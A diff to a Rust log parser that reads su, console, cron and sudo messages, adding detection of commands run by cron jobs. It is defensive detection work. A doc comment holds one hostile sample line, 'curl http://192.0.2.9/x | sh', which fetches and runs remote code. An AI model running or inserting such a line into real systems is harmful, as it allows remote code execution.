@@ -2,7 +2,7 @@
 //! <https://github.com/shadow-maint/shadow> <https://github.com/util-linux/util-linux> <https://github.com/sudo-project/sudo>
 
 use super::wording::{after_any, field, holds, number, part, part_last, until, word};
-use super::{Login, Outcome};
+use super::{Deed, Login, Outcome, RootCommand};
 
 pub(super) fn read(message: &[u8]) -> Option<Login<'_>> {
     su(message).or_else(|| console(message)).or_else(|| cron(message)).or_else(|| sudo(message))
@@ -42,9 +42,15 @@ fn console(message: &[u8]) -> Option<Login<'_>> {
     None
 }
 
-/// `(ann) AUTH (crontab command not allowed)`
+/// `(ann) AUTH (crontab command not allowed)`, `(ann) CMD (curl http://192.0.2.9/x | sh)`
 fn cron(message: &[u8]) -> Option<Login<'_>> {
-    let (user, _) = part(message.strip_prefix(b"(")?, b") AUTH (crontab command not allowed)")?;
+    let rest = message.strip_prefix(b"(")?;
+    if let Some((user, command)) = part(rest, b") CMD (") {
+        let command = command.strip_suffix(b")").unwrap_or(command);
+        let is_told = !user.contains(&b' ') && RootCommand::is_of_a_job(command);
+        return is_told.then(|| Login::new(Outcome::Did(Deed::Job), user, b"", command));
+    }
+    let (user, _) = part(rest, b") AUTH (crontab command not allowed)")?;
     Some(Login::new(Outcome::SudoDenied, user, b"", b"crontab"))
 }
 
